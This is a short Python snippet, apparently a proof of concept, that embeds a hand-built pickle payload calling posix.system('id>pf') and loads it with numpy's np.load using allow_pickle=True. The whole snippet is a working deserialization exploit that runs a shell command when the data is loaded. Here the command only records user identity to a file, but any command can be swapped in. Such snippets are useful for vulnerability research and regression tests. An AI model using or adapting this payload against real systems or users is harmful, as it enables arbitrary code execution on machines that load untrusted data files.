import numpy as np, io, functools
f = io.BytesIO(b"\x80\x02cposix\nsystem\nX\x05\x00\x00\x00id>pf\x85R.")
functools.partial(np.load, allow_pickle=True)(f)
